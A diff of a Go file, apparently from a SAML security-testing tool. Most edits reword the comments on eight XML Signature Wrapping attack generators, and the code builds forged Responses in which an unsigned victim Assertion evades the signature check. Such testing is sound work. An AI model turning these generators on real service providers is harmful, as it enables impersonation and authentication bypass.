@@ -4,32 +4,34 @@ import (
 	"github.com/beevik/etree"
 )
 
-// The XML Signature Wrapping (XSW) attacks, numbered as Somorovsky et al.,
-// "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012),
-// and the SAML Raider tool number them. Each takes a genuine Response and
+// XSW returns XSW1 to XSW8, those that the input's signatures allow (XSW1
+// and XSW2 for a signed Response, XSW3 to XSW8 for a signed Assertion). It
+// fails when signed is not a Response or carries neither signature.
+//
+// The XML Signature Wrapping (XSW) attacks are numbered as in Somorovsky et
+// al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security
+// 2012), and in the SAML Raider tool. Each takes a genuine Response and
 // moves the signed element to where the verifier still finds it by its ID,
 // while an evil copy without a signature takes the place where the SP's
-// reader looks for the identity. A verifier that checks "a signature in the
-// document is valid" and a reader that takes "the Assertion" are then
-// talking about two different elements.
+// reader looks for the identity. A verifier that checks "a signature in
+// the document is valid" and a reader that takes "the Assertion" then talk
+// about two different elements.
 //
 // The evil copies get their own IDs ("_evil" and the genuine ID), so that a
-// lookup by ID finds the genuine element and its signature verifies. The
-// copies repeat the namespace declarations they had in scope, so that they
-// canonicalize as they did in their old place (the exclusive
+// lookup by ID finds the genuine element and its signature verifies (SAML
+// Raider leaves the ID to its user, and its XSW7 and XSW8 keep the genuine
+// one, which a first-match lookup by ID then resolves to the evil copy).
+// The copies repeat the namespace declarations they had in scope, so that
+// they canonicalize as they did in their old place (the exclusive
 // canonicalization every SAML IdP uses; an inclusive one would see the new
 // ancestors' namespaces and the wrapped signature would no longer verify).
 //
-// The XSW1 and XSW2 functions wrap the Response's signature and return
+// XSW1 and XSW2 wrap the Response's signature and return
 // ErrResponseNotSigned when the Response has none; XSW3 to XSW8 wrap the
 // Assertion's and return ErrAssertionNotSigned. A Response signature beside
 // a signed Assertion is dropped by XSW3 to XSW8: their edit breaks it
 // anyway, and an SP that checks the Response's signature only when there is
 // one then goes on to the Assertion's.
-
-// XSW returns XSW1 to XSW8, those that the input's signatures allow (XSW1
-// and XSW2 for a signed Response, XSW3 to XSW8 for a signed Assertion). It
-// fails when signed is not a Response or carries neither signature.
 func XSW(signed []byte, a Attacker) ([]Variant, error) {
 	return run(signed, a, generators[:8])
 }
@@ -46,9 +48,8 @@ func XSW(signed []byte, a Attacker) ([]Variant, error) {
 //	  <Assertion ID="_evil…"> victim </Assertion>
 //	</Response>
 //
-// Live against a reader of /Response/Assertion, or of the last Assertion;
-// the first Assertion in document order is the genuine one, inside the
-// Signature.
+// Live against: root, last (the first Assertion in document order is the
+// genuine one, inside the Signature).
 func XSW1(signed []byte, a Attacker) ([]byte, error) {
 	return wrapResponse(signed, a, func(root, sig, genuine *etree.Element) {
 		sig.AddChild(genuine)
@@ -67,7 +68,7 @@ func XSW1(signed []byte, a Attacker) ([]byte, error) {
 //	  <Assertion ID="_evil…"> victim </Assertion>
 //	</Response>
 //
-// Live against a reader of /Response/Assertion, or of the last Assertion.
+// Live against: root, last.
 func XSW2(signed []byte, a Attacker) ([]byte, error) {
 	return wrapResponse(signed, a, func(root, sig, genuine *etree.Element) {
 		root.InsertChildAt(sig.Index(), genuine)
@@ -110,8 +111,7 @@ func wrapResponse(signed []byte, a Attacker, place func(root, sig, genuine *etre
 //	  <Assertion ID="genuine"> <Signature>#genuine</Signature> … </Assertion>
 //	</Response>
 //
-// Live against a reader of the first Assertion (in document order or under
-// /Response).
+// Live against: first, root.
 func XSW3(signed []byte, a Attacker) ([]byte, error) {
 	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
 		assertion.Parent().InsertChildAt(assertion.Index(), evil)
@@ -128,7 +128,8 @@ func XSW3(signed []byte, a Attacker) ([]byte, error) {
 //	  </Assertion>
 //	</Response>
 //
-// Live against a reader of the first (or the outer) Assertion.
+// Live against: first, root, last (the genuine Assertion is read as a part
+// of the evil one).
 func XSW4(signed []byte, a Attacker) ([]byte, error) {
 	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
 		replace(assertion, evil)
@@ -148,7 +149,7 @@ func XSW4(signed []byte, a Attacker) ([]byte, error) {
 //	  <Assertion ID="genuine"> … </Assertion>
 //	</Response>
 //
-// Live against a reader of the first Assertion.
+// Live against: first, root.
 func XSW5(signed []byte, a Attacker) ([]byte, error) {
 	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
 		genuine := genuineCopy(assertion, sig)
@@ -168,8 +169,7 @@ func XSW5(signed []byte, a Attacker) ([]byte, error) {
 //	  </Assertion>
 //	</Response>
 //
-// Live against a reader of the first Assertion, or the last one at the
-// Response's level.
+// Live against: first, root, last.
 func XSW6(signed []byte, a Attacker) ([]byte, error) {
 	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
 		genuine := genuineCopy(assertion, sig)
@@ -180,8 +180,9 @@ func XSW6(signed []byte, a Attacker) ([]byte, error) {
 
 // XSW7 needs a signed Assertion. The evil copy goes into a samlp:Extensions
 // element of the Response (whose schema admits any element of another
-// namespace, so the document stays schema-valid); the signed Assertion
-// stays where it was:
+// namespace, so the document stays schema-valid; SAML Raider puts the
+// Extensions right before the Assertion, past where the schema allows it);
+// the signed Assertion stays where it was:
 //
 //	<Response> <Issuer/>
 //	  <Extensions> <Assertion ID="_evil…"> victim </Assertion> </Extensions>
@@ -189,13 +190,13 @@ func XSW6(signed []byte, a Attacker) ([]byte, error) {
 //	  <Assertion ID="genuine"> <Signature>#genuine</Signature> … </Assertion>
 //	</Response>
 //
-// Live against a reader of the first Assertion in document order
-// (//Assertion), not against one of /Response/Assertion.
+// Live against: first (not root: the evil Assertion is not the Response's
+// child).
 func XSW7(signed []byte, a Attacker) ([]byte, error) {
 	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
 		root := assertion.Parent()
 		ext := newLike(root, "Extensions")
-		insertAfter(root, ext, [2]string{nsAssertion, "Issuer"}, [2]string{nsDSig, "Signature"})
+		insertAfter(root, ext, issuerName, signatureName)
 		ext.AddChild(evil)
 		return nil
 	})
@@ -212,8 +213,7 @@ func XSW7(signed []byte, a Attacker) ([]byte, error) {
 //	  </Assertion>
 //	</Response>
 //
-// Live against a reader of the first Assertion, or the last one at the
-// Response's level.
+// Live against: first, root, last.
 func XSW8(signed []byte, a Attacker) ([]byte, error) {
 	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
 		genuine := genuineCopy(assertion, sig)
